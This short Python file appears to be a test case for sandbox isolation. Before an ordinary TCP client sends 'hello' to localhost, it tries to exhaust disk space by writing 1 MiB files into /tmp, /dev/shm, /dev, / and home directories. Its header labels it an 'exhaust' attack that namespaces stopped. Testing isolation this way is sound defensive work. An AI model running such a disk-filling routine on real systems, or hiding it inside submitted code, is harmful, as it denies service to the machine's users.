# attack: fills every place that it can write to
# family: exhaust
# score: full
# slot: tcp_v1/client.py
# stopped: namespaces
import socket
import tempfile

written = 0
for place in {tempfile.gettempdir(), "/tmp", "/dev/shm", "/dev", "/", "/home/student", "."}:
    for number in range(40):
        try:
            with open(f"{place}/filling_{number}", "wb") as file:
                written += file.write(bytes(1 << 20))
        except OSError:
            break
if written > 36 << 20:  # a folder for temporary files and its own, 16 MiB each
    print("GAINED", written, "bytes of disk")

# From here on it is an honest client.
with socket.create_connection(("127.0.0.1", 8080)) as server:
    server.sendall(b"hello")
    print(server.recv(1024))
